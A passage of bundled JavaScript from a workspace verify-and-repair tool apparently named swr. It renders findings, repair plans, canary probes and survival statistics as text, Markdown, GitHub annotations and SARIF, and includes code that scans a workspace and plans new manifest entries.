        out.push(`no way back recorded for ${cannot.length}: ${list}  (swr why says what to do)`);
    }
    return out;
}
function renderWhy(r, opts, notes, history = new Map()) {
    const damaged = r.results.filter(f => f.status !== 'OK');
    if (damaged.length === 0)
        return (paint(opts.color, 'green', `${r.summary.entries}/${r.summary.entries} healthy: nothing to explain`) + '\n');
    const lines = [
        `wipe signature: ${paint(opts.color, 'bold', r.diagnosis.signature)}`,
        `  ${e(r.diagnosis.cause)}`,
        ''
    ];
    const adviceById = new Map(r.diagnosis.advice.map(a => [a.id, a]));
    for (const f of damaged) {
        const advice = adviceById.get(f.id);
        lines.push(`${paint(opts.color, COLORS[f.status], f.status)} ${e(f.id)}  (${f.kind}, tier ${f.tier}, ${e(f.path)})`);
        lines.push(`  found:    ${e(f.detail)}`);
        lines.push(`  recorded: ${show(f.recorded)}`);
        lines.push(`  now:      ${show(f.found)}`);
        if (advice) {
            lines.push(`  cause:    ${e(advice.cause)}`);
            if (advice.risk)
                lines.push(`  risk:     ${e(advice.risk)}`);
            if (advice.affects)
                lines.push(`  affects:  ${advice.affects.map(id => e(id)).join(', ')}`);
            lines.push(`  fix:      ${e(advice.fix)}`);
        }
        const note = notes.get(f.id);
        if (note)
            lines.push(`  note:     ${e(note)}`);
        const past = history.get(f.id);
        if (past)
            lines.push(`  history:  ${e(past)}`);
        lines.push('');
    }
    return lines.join('\n');
}
function show(v) {
    return Object.entries(v)
        .map(([k, x]) => `${k}=${typeof x === 'number' && k !== 'mode' ? x.toLocaleString('en-US') : e(String(x))}`)
        .join(' ');
}
/** The plan, wave by wave, with the reason for each step. */
function renderPlan(waves, opts) {
    if (waves.length === 0)
        return 'nothing to repair\n';
    const lines = [];
    let n = 0;
    const total = waves.reduce((s, w) => s + w.length, 0);
    waves.forEach((wave, w) => {
        for (const s of wave) {
            n++;
            const src = s.sources.length === 0 ? paint(opts.color, 'red', 'no recipe') : sourceList(s).join(', ');
            const after = s.after.length > 0 ? ` after ${fewIds(s.after)}` : '';
            const par = wave.length > 1 ? ` (wave ${w + 1}, parallel)` : '';
            lines.push(`  [${n}/${total}] tier ${s.tier} ${escape_escapeText(s.id)} <- ${src}${after}${par}`);
            lines.push(`        ${escape_escapeText(s.reason)}`);
        }
    });
    return lines.join('\n') + '\n';
}
/** A step's sources as the runner tries them; the saved state is the first cache (sources.ts). */
function sourceList(s) {
    const saved = s.saved_state === undefined ? -1 : s.sources.indexOf('cache');
    return s.sources.map((k, i) => (i === saved ? 'cache (saved state)' : escape_escapeText(k)));
}
const OUTCOME_STYLE = {
    repaired: 'green',
    'already-repaired': 'green',
    'still-damaged': 'red',
    failed: 'red',
    skipped: 'yellow',
    unrepairable: 'red',
    interrupted: 'yellow'
};
/** Entries a repair damaged on the side, each with the recipes that ran before it was found. */
function renderCollateral(harmed, opts) {
    return harmed
        .map(c => {
        const by = c.after.length > 0 ? `after the recipe of ${fewIds(c.after)} ran` : '';
        return `${paint(opts.color, 'red', 'collateral')} ${e(c.id)} is ${c.status} ${by}: ${e(c.detail)}\n`;
    })
        .join('');
}
function renderStep(r, opts) {
    // A step's detail can quote a cache member's name or a recipe's words: escaped like any name.
    const line = `  ${paint(opts.color, OUTCOME_STYLE[r.outcome], r.outcome.padEnd(14))} ${escape_escapeText(r.id)}  ${escape_escapeText(r.detail)}\n`;
    return line + quarantineLine(r.quarantine);
}
function quarantineLine(q) {
    if (!q)
        return '';
    if ('skipped' in q)
        return `      quarantine: ${escape_escapeText(q.skipped)}\n`;
    const pruned = q.pruned
        ? `; pruned ${q.pruned.removed} older cop${q.pruned.removed === 1 ? 'y' : 'ies'} (${q.pruned.bytes} bytes)`
        : '';
    return `      quarantine: kept ${q.bytes} bytes in ${q.copied}${pruned}\n`;
}

;// CONCATENATED MODULE: ./src/core/report/severity.ts
const RANK = {
    MISSING: 0,
    EMPTY: 1,
    TYPE: 2,
    CORRUPT: 3,
    BROKENLNK: 4,
    SMOKEFAIL: 5,
    STRIPPED: 6,
    SKIPPED: 7,
    OK: 8
};
/** SARIF's level of each status; annotations use the same (`note` is GitHub's `notice`). */
const LEVEL = {
    OK: 'note',
    MISSING: 'error',
    CORRUPT: 'error',
    STRIPPED: 'warning',
    EMPTY: 'error',
    BROKENLNK: 'error',
    TYPE: 'error',
    SKIPPED: 'warning',
    SMOKEFAIL: 'error'
};
/** Damaged findings, most severe first, then by tier (what blocks the most comes first). */
function bySeverity(findings) {
    return findings
        .filter(f => f.status !== 'OK')
        .sort((a, b) => RANK[a.status] - RANK[b.status] || a.tier - b.tier || (a.id < b.id ? -1 : 1));
}

;// CONCATENATED MODULE: ./src/core/report/annotations.ts



const annotations_e = (s, max = ANNOTATION_MESSAGE_CHARS) => escape_escapeText(s, { max });
/**
 * The message's lines: each untrusted piece escaped once, on its own line. The line breaks are
 * swr's and stay real (the printer percent-encodes them as `%0A`); escaping the joined text would
 * show them as a literal `\n`. Shares of the message's budget, so a hostile 10 MB detail can
 * neither exceed it nor crowd out the cause and fix.
 */
function messageOf(detail, advice) {
    if (!advice)
        return annotations_e(detail);
    const quarter = Math.floor(ANNOTATION_MESSAGE_CHARS / 4);
    return [
        annotations_e(detail, 2 * quarter),
        `Cause: ${annotations_e(advice.cause, quarter)}`,
        `Fix: ${annotations_e(advice.fix, quarter)}`
    ].join('\n');
}
function levelOf(status) {
    const l = LEVEL[status];
    return l === 'note' ? 'notice' : l;
}
function annotationsFor(report, ctx) {
    const room = (l) => Math.max(0, ctx.room?.[l] ?? GITHUB_ANNOTATIONS_PER_LEVEL);
    // One notice is kept back for the overflow count.
    const left = {
        error: room('error'),
        warning: room('warning'),
        notice: room('notice') - 1
    };
    const out = [];
    const cut = [];
    const adviceById = new Map(report.diagnosis.advice.map(a => [a.id, a]));
    for (const f of bySeverity(report.results)) {
        const level = levelOf(f.status);
        const advice = adviceById.get(f.id);
        const message = messageOf(f.detail, advice);
        const title = `swr: ${f.status} ${annotations_e(f.id, 200)}`;
        const places = [
            { level, title, message, file: ctx.manifestUri, startLine: ctx.lines.get(f.id) ?? 1 }
        ];
        const own = f.kind === 'file' || f.kind === 'blob' ? ctx.trackedPath(f.path) : undefined;
        if (own)
            places.push({ level, title, message, file: own, startLine: 1 });
        if (places.length > left[level]) {
            cut.push(`${f.status} ${annotations_e(f.id, 200)}`);
            continue;
        }
        left[level] -= places.length;
        out.push(...places);
    }
    if (cut.length > 0 && room('notice') > 0)
        out.push(overflowNotice(cut, ctx.reportPath));
    return out;
}
/** The entries left unannotated: counted, the first few named, and where to find them all. */
function overflowNotice(cut, reportPath) {
    const named = cut.slice(0, NOTICE_IDS).join(', ');
    const more = cut.length > NOTICE_IDS ? ` and ${cut.length - NOTICE_IDS} more` : '';
    return {
        level: 'notice',
        title: `swr: ${cut.length} more damaged entries not annotated`,
        message: `${named}${more}. GitHub shows ${GITHUB_ANNOTATIONS_PER_LEVEL} annotations of each level per step; the job summary and the full report${reportPath ? ` (${annotations_e(reportPath, 1024)})` : ''} list every entry.`
    };
}

;// CONCATENATED MODULE: ./src/core/report/canary.ts
/**
 * A canary read for people: totals, a table by class (with the attributes that changed) and by
 * location, then one line per probe that did not come back intact.
 */





function totals(t) {
    const n = t.intact + t.altered + t.lost;
    return `${n} probes: ${t.intact} intact, ${t.altered} altered, ${t.lost} lost`;
}
function attrs(a) {
    return Object.entries(a)
        .map(([k, n]) => `${k} ${n}`)
        .join(', ');
}
function header(r) {
    return `canary ${escape_escapeText(r.plant_id)}: planted ${r.planted_at.slice(0, 19)}Z on ${contextLabel(r.planted_by)}, read ${r.read_at.slice(0, 19)}Z on ${contextLabel(r.read_by)}${r.reread ? ' (read before)' : ''}`;
}
function renderCanaryText(r) {
    const lines = [header(r), totals(r.totals), ''];
    const classes = Object.entries(r.classes);
    const cw = Math.max(...classes.map(([c]) => c.length), 5);
    lines.push(`${'class'.padEnd(cw + 2)}${'intact'.padStart(7)}${'altered'.padStart(8)}${'lost'.padStart(6)}  changed`);
    for (const [c, t] of classes) {
        if (!t)
            continue;
        lines.push(`  ${c.padEnd(cw)}${String(t.intact).padStart(7)}${String(t.altered).padStart(8)}${String(t.lost).padStart(6)}  ${attrs(t.attributes)}`);
    }
    lines.push('');
    const locs = Object.entries(r.locations);
    const lw = Math.max(...locs.map(([l]) => escape_escapeText(l).length), 8);
    lines.push(`${'location'.padEnd(lw + 2)}${'intact'.padStart(7)}${'altered'.padStart(8)}${'lost'.padStart(6)}`);
    for (const [l, t] of locs)
        lines.push(`  ${escape_escapeText(l).padEnd(lw)}${String(t.intact).padStart(7)}${String(t.altered).padStart(8)}${String(t.lost).padStart(6)}`);
    const bad = r.probes.filter(p => p.outcome.state !== 'intact');
    if (bad.length > 0) {
        lines.push('');
        for (const p of bad) {
            const o = p.outcome;
            const what = o.state === 'altered' ? `${o.attributes.join(',')}: ${escape_escapeText(o.detail)}` : 'gone';
            lines.push(`${o.state.toUpperCase().padEnd(8)} ${p.class.padEnd(cw)}  ${escape_escapeText(p.location)}  ${escape_escapeText(abbreviate(p.path))}  ${what}`);
        }
    }
    return lines.join('\n') + '\n';
}
function cell(x) {
    return escapeMarkdown(x);
}
function renderCanaryMarkdown(r) {
    const icon = r.totals.altered + r.totals.lost === 0 ? '✅' : '⚠️';
    const lines = [
        `### ${icon} swr canary: ${totals(r.totals)}`,
        '',
        `<sub>${cell(header(r))}</sub>`,
        '',
        '| probe class | what it tests | intact | altered | lost | changed |',
        '| --- | --- | ---: | ---: | ---: | --- |'
    ];
    for (const [c, t] of Object.entries(r.classes))
        lines.push(`| \`${c}\` | ${CLASS_QUESTION[c]} | ${t.intact} | ${t.altered} | ${t.lost} | ${attrs(t.attributes)} |`);
    lines.push('', '| location | intact | altered | lost |', '| --- | ---: | ---: | ---: |');
    const locations = Object.entries(r.locations);
    for (const [l, t] of locations.slice(0, SURVIVAL_TABLE_ROWS))
        lines.push(`| ${markdownCode(l, { max: 256 })} | ${t.intact} | ${t.altered} | ${t.lost} |`);
    if (locations.length > SURVIVAL_TABLE_ROWS)
        lines.push(`| … ${locations.length - SURVIVAL_TABLE_ROWS} more locations | | | |`);
    return lines.join('\n') + '\n';
}

;// CONCATENATED MODULE: ./src/core/report/markdown.ts



/** One cell's text: a hostile 10 MB detail must not take the whole summary. */
const CELL_CHARS = 1024;
const ICON = {
    healthy: '✅',
    repaired: '🛠️',
    damaged: '❌',
    unrepairable: '❌',
    'still-damaged': '❌',
    refused: '⛔',
    interrupted: '⏹️'
};
/** Untrusted text in a table cell or a line: literal, one line, no Markdown or HTML. */
function markdown_cell(s) {
    return escapeMarkdown(s, { max: CELL_CHARS });
}
function markdown_shown(v) {
    return Object.entries(v)
        .map(([k, x]) => `${k} ${typeof x === 'number' && k !== 'mode' ? x.toLocaleString('en-US') : String(x)}`)
        .join(', ');
}
function isRepair(r) {
    return 'repair' in r;
}
function renderMarkdown(r, ctx = {}) {
    const outcome = isRepair(r) ? r.repair.outcome : r.verdict;
    const head = [];
    const s = r.summary;
    const what = isRepair(r) && r.repair.steps.length > 0
        ? `${r.repair.steps.filter(x => x.outcome === 'repaired').length} of ${r.repair.steps.length} repairs succeeded, ${s.ok}/${s.entries} healthy now`
        : `${s.ok}/${s.entries} entries healthy`;
    head.push(`### swr ${r.command}: ${ICON[outcome] ?? ''} ${outcome}`, '', what, '');
    const signature = isRepair(r) ? r.repair.before.signature : r.diagnosis.signature;
    if (signature !== 'healthy') {
        head.push(`**Wipe signature:** \`${signature}\`${isRepair(r) ? ' (before repair)' : ''}: ${markdown_cell(isRepair(r) ? r.repair.before.cause : r.diagnosis.cause)}`, '');
    }
    if (isRepair(r) && r.repair.gate && !r.repair.gate.allowed) {
        head.push(`> [!WARNING]`, `> No recipe ran: ${markdown_cell(r.repair.gate.reason)}`, '');
    }
    const findings = {
        head: r.results.some(f => f.status !== 'OK')
            ? [
                '| Status | Entry | Path | Tier | Found | Recorded | Now |',
                '|---|---|---|---|---|---|---|'
            ]
            : ['All entries verify.'],
        rows: bySeverity(r.results).map(f => `| ${f.status} | ${markdownCode(f.id)} | ${markdownCode(f.path, { max: CELL_CHARS })} | ${f.tier} | ${markdown_cell(f.detail)} | ${markdown_cell(markdown_shown(f.recorded))} | ${markdown_cell(markdown_shown(f.found))} |`),
        cut: (n, where) => `| … | ${n} more entries | | | see ${where} | | |`
    };
    const sections = [findings];
    if (isRepair(r) && r.repair.steps.length > 0) {
        const tiers = new Map(r.repair.plan.flat().map(p => [p.id, p.tier]));
        sections.push({
            head: [
                '',
                '#### Repair',
                '',
                '| # | Entry | Tier | Source | Result | Exit | Time |',
                '|---|---|---|---|---|---|---|'
            ],
            rows: r.repair.steps.map((st, i) => {
                const exit = st.recipe
                    ? st.recipe.timedOut
                        ? 'timeout'
                        : String(st.recipe.exitCode ?? st.recipe.signal ?? '')
                    : '';
                const time = st.recipe ? `${(st.recipe.ms / 1000).toFixed(1)} s` : '';
                return `| ${i + 1} | ${markdownCode(st.id)} | ${tiers.get(st.id) ?? ''} | ${markdown_cell(st.source)} | ${st.outcome}: ${markdown_cell(st.detail)} | ${exit} | ${time} |`;
            }),
            cut: (n, where) => `| … | ${n} more steps | | | see ${where} | | |`
        });
    }
    else if (isRepair(r) && r.repair.plan.length > 0) {
        sections.push({
            head: ['', '#### Repair plan (not run)', ''],
            rows: r.repair.plan
                .flat()
                .map(st => `- tier ${st.tier} ${markdownCode(st.id)} from ${markdown_cell(st.source)}${st.after.length ? ` after ${markdown_cell(st.after.join(', '))}` : ''}`),
            cut: (n, where) => `- … ${n} more steps: see ${where}`
        });
    }
    const artifact = ctx.reportArtifact
        ? markdownLink(`artifact ${ctx.reportArtifact.name}`, ctx.reportArtifact.url)
        : undefined;
    const tail = [
        ...(artifact ? ['', `Full report and SARIF: ${artifact}`] : []),
        '',
        `<sub>manifest ${markdown_cell(r.manifest.path)} · digest \`${r.manifest.digest.slice(0, 16)}\` · version ${r.manifest.version} · ${r.timing.ms} ms · swr ${r.tool.version}</sub>`
    ];
    const where = artifact ?? (ctx.reportPath ? markdownCode(ctx.reportPath) : 'the JSON report');
    return fitSections(head, sections, tail, where, SUMMARY_BUDGET);
}
const bytes = (lines) => lines.reduce((n, l) => n + Buffer.byteLength(l) + 1, 0);
/**
 * Join the parts within `budget` bytes: the head, the tail and every section's heading always; the
 * rows shared fairly (the smallest sections whole, the rest an equal share each), each cut
 * section ending with a row that counts what it left out and says where to find it.
 */
function fitSections(head, sections, tail, where, budget) {
    const markers = sections.map(s => s.cut(Number.MAX_SAFE_INTEGER, where));
    let room = budget - bytes([...head, ...tail, ...sections.flatMap(s => s.head), ...markers]);
    const order = sections.map((s, i) => ({ i, need: bytes(s.rows) })).sort((a, b) => a.need - b.need);
    const share = new Map();
    order.forEach(({ i, need }, k) => {
        const fair = Math.max(0, Math.floor(room / (order.length - k)));
        share.set(i, Math.min(need, fair));
        room -= Math.min(need, fair);
    });
    const out = [...head];
    sections.forEach((s, i) => {
        const kept = [];
        let left = share.get(i) ?? 0;
        for (const row of s.rows) {
            const n = Buffer.byteLength(row) + 1;
            if (n > left)
                break;
            kept.push(row);
            left -= n;
        }
        out.push(...s.head, ...kept);
        if (kept.length < s.rows.length)
            out.push(s.cut(s.rows.length - kept.length, where));
    });
    return [...out, ...tail].join('\n') + '\n';
}

;// CONCATENATED MODULE: ./src/core/report/sarif.ts
/**
 * The report as SARIF 2.1.0, for code scanning (`github/codeql-action/upload-sarif`): one rule per
 * status, one result per damaged entry, located at the line of the manifest that declares it.
 */




const RULE_TEXT = {
    OK: 'The entry verifies.',
    MISSING: 'A tracked entry is missing from the workspace.',
    CORRUPT: 'A tracked entry differs from what the manifest recorded (size, content, mode, files or target).',
    STRIPPED: 'A tracked entry lost an exec bit it should have.',
    EMPTY: 'A tracked directory survived with no files in it.',
    BROKENLNK: 'A tracked symlink points at something that does not exist.',
    TYPE: 'A tracked entry changed kind (file, directory, symlink).',
    SKIPPED: 'The entry was not repaired because a dependency failed.',
    SMOKEFAIL: "The entry's files verify but its smoke command fails."
};
/** What to do about each status: the rule's help, shown beside every result in code scanning. */
const RULE_HELP = {
    OK: 'Nothing to do.',
    MISSING: 'Restore the entry: `swr doctor` (or the Action with `command: doctor`) runs its signed restore sources; `swr why` names the cause. If the entry is gone on purpose, take it out of the manifest and sign it again.',
    CORRUPT: 'The bytes, size, file list or link target changed since the manifest was signed. Restore the entry with `swr doctor`; if the change is intended, record it again with `swr add` and re-sign.',
    STRIPPED: 'Only the exec bit was lost (a tar, artifact or cache round trip that drops modes). `swr doctor` puts it back; so does `chmod +x` on the path.',
    EMPTY: 'The directory exists but its files are gone (a cleanup or a partial restore). Restore it with `swr doctor`.',
    BROKENLNK: "The link's target is missing: restore the target first (`swr doctor` orders repairs by dependency), or record the new target with `swr add`.",
    TYPE: 'A file became a directory or a link, or the other way round. Remove what is there and restore the entry with `swr doctor`.',
    SKIPPED: 'The entry was not repaired because an entry it needs failed; fix that one first (see the repair table in the job summary).',
    SMOKEFAIL: "The files verify but the entry's smoke command fails: the tool they make up does not run here. Check the smoke command's output in the log."
};
function toSarif(report, ctx) {
    const rules = STATUSES.filter(s => s !== 'OK').map(s => ({
        id: `swr/${s}`,
        name: s,
        shortDescription: { text: RULE_TEXT[s] },
        fullDescription: { text: `${RULE_TEXT[s]} ${RULE_HELP[s]}` },
        help: { text: RULE_HELP[s], markdown: RULE_HELP[s] },
        defaultConfiguration: { level: LEVEL[s] }
    }));
    const damaged = bySeverity(report.results);
    // Code scanning shows only the most severe results: keep those, count the rest.
    const kept = damaged.slice(0, SARIF_RESULTS);
    const adviceById = new Map(report.diagnosis.advice.map(a => [a.id, a]));
    const results = kept.map(f => {
        const advice = adviceById.get(f.id);
        return {
            ruleId: `swr/${f.status}`,
            ruleIndex: rules.findIndex(r => r.name === f.status),
            level: LEVEL[f.status],
            message: {
                text: `${f.status} ${escape_escapeText(f.id)} (${escape_escapeText(f.path)}): ${escape_escapeText(f.detail)}${advice ? `. Fix: ${escape_escapeText(advice.fix)}` : ''}`
            },
            locations: [
                {
                    physicalLocation: {
                        artifactLocation: { uri: ctx.manifestUri },
                        region: { startLine: ctx.lines.get(f.id) ?? 1 }
                    },
                    logicalLocations: [
                        { name: f.id, fullyQualifiedName: `${f.kind}:${f.path}`, kind: 'resource' }
                    ]
                }
            ],
            partialFingerprints: { swrEntry: `${f.id}/${f.status}/${f.reason}` },
            properties: {
                tier: f.tier,
                kind: f.kind,
                path: f.path,
                reason: f.reason,
                recorded: f.recorded,
                found: f.found
            }
        };
    });
    return {
        $schema: 'https://json.schemastore.org/sarif-2.1.0.json',
        version: '2.1.0',
        runs: [
            {
                tool: {
                    driver: {
                        name: 'swr',
                        version: report.tool.version,
                        rules
                    }
                },
                results,
                properties: {
                    verdict: report.verdict,
                    wipeSignature: report.diagnosis.signature,
                    manifestDigest: report.manifest.digest,
                    ...(damaged.length > kept.length
                        ? {
                            resultsOmitted: damaged.length - kept.length,
                            fullReport: ctx.reportPath ?? 'the JSON report'
                        }
                        : {})
                }
            }
        ]
    };
}

;// CONCATENATED MODULE: ./src/core/report/survival.ts


const MARK = { kept: '✓', partial: '◐', lost: '✗' };
/** Runs shown in the chart: enough to see a trend, few enough for labels to stay legible. */
const CHART_RUNS = 30;
function pct(x) {
    return `${(x * 100).toFixed(1)}%`;
}
function interval(r) {
    return `[${(r.low * 100).toFixed(1)}, ${(r.high * 100).toFixed(1)}]`;
}
function trend(r) {
    return r.trend.map(m => MARK[m]).join('');
}
function textTable(title, rs) {
    if (rs.length === 0)
        return [];
    const w = Math.max(title.length - 2, ...rs.map(r => escapeText(r.key).length));
    const head = `${title.padEnd(w + 2)}  ${'rate'.padStart(6)}  ${'95% CI'.padEnd(14)}  ${'n'.padStart(5)}  trend (newest first)`;
    return [
        head,
        ...rs.map(r => `  ${escapeText(r.key).padEnd(w)}  ${pct(r.rate).padStart(6)}  ${interval(r).padEnd(14)}  ${String(r.n).padStart(5)}  ${trend(r)}`),
        ''
    ];
}
function span(s) {
    const parts = [`${s.records} record${s.records === 1 ? '' : 's'}`];
    parts.push(`${s.canary_runs} canary read${s.canary_runs === 1 ? '' : 's'}`);
    parts.push(`${s.check_runs} recorded check${s.check_runs === 1 ? '' : 's'}`);
    const when = s.first && s.last ? `, ${s.first.slice(0, 16)}Z .. ${s.last.slice(0, 16)}Z` : '';
    return `${parts[0]} (${parts.slice(1).join(', ')})${when}`;
}
function renderStatsText(s) {
    if (s.records === 0)
        return 'no history yet: "swr canary read" records every read; "swr check --record" records checks\n';
    return [
        `survival from ${span(s)}`,
        '',
        ...textTable('canary classes', s.classes),
        ...textTable('canary locations', s.locations),
        ...textTable('manifest entries', s.entries)
    ].join('\n');
}
function mdTable(title, rs) {
    if (rs.length === 0)
        return [];
    return [
        `| ${title} | survival | 95% CI | n | trend (newest first) |`,
        '| --- | ---: | :---: | ---: | --- |',
        ...rs
            .slice(0, SURVIVAL_TABLE_ROWS)
            .map(r => `| ${markdownCode(r.key, { max: 256 })} | ${pct(r.rate)} | ${interval(r)} | ${r.n} | ${trend(r)} |`),
        // Rows beyond the bound are counted; `swr stats --json` and the stats output have them.
        ...(rs.length > SURVIVAL_TABLE_ROWS
            ? [`| … ${rs.length - SURVIVAL_TABLE_ROWS} more (see \`swr stats --json\`) | | | | |`]
            : []),
        ''
    ];
}
function axisLabel(p) {
    // Month-day and time: short enough for 30 labels; quotes are the only character to avoid.
    return p.time.slice(5, 16).replace('T', ' ').replace(/"/g, '');
}
/** A Mermaid xychart-beta of survival per run (canary runs when there are any, else checks). */
function survivalChart(s) {
    const kind = s.canary_runs > 0 ? 'canary' : 'check';
    const runs = s.runs.filter(r => r.kind === kind).slice(-CHART_RUNS);
    if (runs.length === 0)
        return undefined;
    const title = kind === 'canary'
        ? 'Canary probes intact per run (%)'
        : 'Entries healthy per recorded check (%)';
    return [
        '```mermaid',
        'xychart-beta',
        `    title "${title}"`,
        `    x-axis [${runs.map(r => `"${axisLabel(r)}"`).join(', ')}]`,
        '    y-axis "survival %" 0 --> 100',
        `    line [${runs.map(r => (r.survival * 100).toFixed(1)).join(', ')}]`,
        '```'
    ].join('\n');
}
function renderStatsMarkdown(s) {
    if (s.records === 0)
        return '_No survival history recorded yet._\n';
    const chart = survivalChart(s);
    return [
        `**Survival** from ${span(s)}`,
        '',
        ...(chart ? [chart, ''] : []),
        ...mdTable('canary class', s.classes),
        ...mdTable('canary location', s.locations),
        ...mdTable('manifest entry', s.entries)
    ].join('\n');
}

;// CONCATENATED MODULE: ./src/core/author/scan.ts
/**
 * What every authoring scan shares: the names no scan enters (VCS metadata, swr's own directory),
 * sorted directory listings that never throw, a bound on how much of a huge workspace one scan
 * may look at, and ignore rules that name exactly one path.
 */

/** Version-control metadata: changes on every fetch, restored by the VCS, never worth an entry. */
const scan_VCS_DIRS = new Set(['.git', '.hg', '.svn']);
/** swr's own directory beside a manifest. */
const scan_SWR_DIR = '.swr';
/** A $HOME workspace can hold millions of files: one scan looks at no more than this many. */
const MAX_SCAN = 200_000;
function scan_isMetaName(name) {
    return scan_VCS_DIRS.has(name) || name === scan_SWR_DIR;
}
/** Directory entries in the tree walk's order (JavaScript string order); [] when unreadable. */
function scan_listDir(abs) {
    try {
        return fs.readdirSync(abs).sort();
    }
    catch {
        return [];
    }
}
function scan_lstatOf(abs) {
    try {
        return fs.lstatSync(abs);
    }
    catch {
        return undefined;
    }
}
function scan_isExecutable(st) {
    return (st.mode & 0o111) !== 0;
}
function scan_scanBudget(limit = MAX_SCAN) {
    let seen = 0;
    return {
        take: () => ++seen <= limit,
        get exhausted() {
            return seen > limit;
        }
    };
}
/**
 * An ignore rule matching exactly `inner` (a path relative to the tree): anchored with a leading
 * slash, because a bare name would match at any depth, and with glob characters escaped.
 */
function scan_literalRule(inner) {
    return '/' + inner.replace(/[\\*?[\]{}()!+@]/g, c => `\\${c}`);
}
/** `rel` joined below `dir` in manifest spelling ("" is the workspace root). */
function scan_joinRel(dir, name) {
    return dir ? `${dir}/${name}` : name;
}

;// CONCATENATED MODULE: ./src/core/author/coverage.ts
/**
 * Which workspace paths a manifest already tracks: each entry's own path, and everything inside a
 * tracked tree that the tree's ignore rules do not leave out (read exactly as the tree walk reads
 * them, so "tracked" here means "judged by some entry's check").
 */



/** `rel` relative to the tree at `root`, or undefined when it is not strictly inside. */
function innerOf(root, rel) {
    if (root === '.')
        return rel === '.' ? undefined : rel;
    return rel.startsWith(root + '/') ? rel.slice(root.length + 1) : undefined;
}
/** The walk skips a path when any of its prefixes is ignored. */
function ignoredInside(t, inner) {
    const segs = inner.split('/');
    return segs.some((name, i) => t.ignored(segs.slice(0, i + 1).join('/'), name, i < segs.length - 1));
}
function coverage_coverageOf(entries) {
    const exact = new Map(entries.map(e => [e.path, e.id]));
    const trees = entries.flatMap(e => e.kind === 'tree'
        ? [
            {
                id: e.id,
                path: e.path,
                ignored: ignoreMatcher(e.ignore),
                custom: e.ignore.some(r => !VOLATILE_DIRS.has(r) && !isMetaName(r))
            }
        ]
        : []);
    const covering = (rel) => trees.filter(t => {
        const inner = innerOf(t.path, rel);
        return inner !== undefined && !ignoredInside(t, inner);
    });
    return {
        trackedBy(rel) {
            const id = exact.get(rel);
            if (id !== undefined)
                return { id, exact: true };
            const tree = covering(rel)[0];
            return tree ? { id: tree.id, exact: false } : undefined;
        },
        trackedBelow(rel) {
            return entries.flatMap(e => {
                const inner = innerOf(rel, e.path);
                return inner === undefined ? [] : [inner];
            });
        },
        mayHideUntracked(rel) {
            const own = trees.find(t => t.path === rel);
            return [...(own ? [own] : []), ...covering(rel)].some(t => t.custom);
        }
    };
}

;// CONCATENATED MODULE: ./src/core/author/audit.ts





function auditWorkspace(workspace, entries, exclude) {
    const scan = { cov: coverageOf(entries), exclude, budget: scanBudget(), rows: [] };
    visit(scan, workspace, '');
    scan.rows.sort((a, b) => b.bytes - a.bytes || b.files - a.files || (a.path < b.path ? -1 : 1));
    return { rows: scan.rows, truncated: scan.budget.exhausted };
}
function skipped(scan, name, abs) {
    return isMetaName(name) || VOLATILE_DIRS.has(name) || scan.exclude.has(abs);
}
function visit(scan, absDir, relDir) {
    for (const name of listDir(absDir)) {
        if (!scan.budget.take())
            return;
        const abs = path.join(absDir, name);
        if (skipped(scan, name, abs))
            continue;
        const rel = joinRel(relDir, name);
        const st = lstatOf(abs);
        if (!st)
            continue;
        if (scan.cov.trackedBy(rel)) {
            if (st.isDirectory() && scan.cov.mayHideUntracked(rel))
                visit(scan, abs, rel);
        }
        else if (st.isDirectory()) {
            if (scan.cov.trackedBelow(rel).length > 0)
                visit(scan, abs, rel);
            else
                scan.rows.push(...treeRows(scan, abs, rel));
        }
        else {
            const row = leafRow(rel, st);
            if (row)
                scan.rows.push(row);
        }
    }
}
function leafRow(rel, st) {
    const row = (kind, bytes) => ({
        kind,
        path: rel,
        bytes,
        files: 1,
        ignore: []
    });
    if (st.isSymbolicLink())
        return row('link', 0);
    if (!st.isFile())
        return undefined;
    if (st.size >= BLOB_THRESHOLD)
        return row('blob', st.size);
    return isExecutable(st) ? row('file', st.size) : undefined;
}
/** A `tree` row for the untracked directory `rel`, and `blob` rows for its large files. */
function treeRows(scan, absRoot, rel) {
    const blobs = [];
    const names = new Set();
    let files = 0;
    let bytes = 0;
    const walk = (absDir, inner) => {
        for (const name of listDir(absDir)) {
            if (!scan.budget.take())
                return;
            const abs = path.join(absDir, name);
            if (skipped(scan, name, abs)) {
                if (!scan.exclude.has(abs))
                    names.add(name);
                continue;
            }
            const st = lstatOf(abs);
            const innerRel = joinRel(inner, name);
            if (!st)
                continue;
            if (st.isDirectory())
                walk(abs, innerRel);
            else if (st.isFile() && st.size >= BLOB_THRESHOLD) {
                blobs.push({
                    kind: 'blob',
                    path: `${rel}/${innerRel}`,
                    bytes: st.size,
                    files: 1,
                    ignore: []
                });
            }
            else {
                files++;
                bytes += st.isFile() ? st.size : 0;
            }
        }
    };
    walk(absRoot, '');
    const ignore = [
        ...[...names].sort(),
        ...blobs.map(b => literalRule(b.path.slice(rel.length + 1)))
    ];
    return files > 0 ? [{ kind: 'tree', path: rel, bytes, files, ignore }, ...blobs] : blobs;
}

;// CONCATENATED MODULE: ./src/core/author/autopilot.ts
/**
 * `autopilot`: bring a manifest up to date with init's rules without touching what is already
 * there. Each top-level source tree not yet tracked becomes a `tree` entry whose sentinels are real
 * markers found in it; executable scripts at the top level become `file` entries; large files
 * anywhere outside volatile directories become `blob` entries. Volatile directories
 * (node_modules, build, ...) are never entries, and every new tree ignores them. Running it
 * again adds nothing: everything it would add is then tracked.
 */






/** A tree is a source tree when one of these is at its root (the same markers capture prefers). */
const TREE_MARKERS = (/* unused pure expression or super */ null && (PROJECT_MARKERS));
const SOURCE_FILE = /\.(ts|tsx|mts|cts|js|jsx|mjs|cjs|py|go|rs|c|h|cc|cpp|cxx|hpp|java|kt|swift|rb|cs|zig)$/;
function planAutopilot(workspace, entries, exclude) {
    const ctx = { workspace, cov: coverageOf(entries), exclude, budget: scanBudget() };
    const blobs = untrackedBlobs(ctx);
    const trees = [];
    const scripts = [];
    const skipped = [];
    for (const name of listDir(workspace)) {
        const abs = path.join(workspace, name);
        if (isMetaName(name) || VOLATILE_DIRS.has(name) || exclude.has(abs))
            continue;
        if (ctx.cov.trackedBy(name))
            continue;
        const st = lstatOf(abs);
        if (st?.isDirectory() && !name.startsWith('.')) {
            const planned = planTree(ctx, name, blobs);
            if (planned && 'why' in planned)
                skipped.push({ path: name, why: planned.why });
            else if (planned)
                trees.push(planned);
        }
        else if (st?.isFile() && isExecutable(st) && st.size < BLOB_THRESHOLD) {
            scripts.push({ path: name, kind: 'file' });
        }
    }
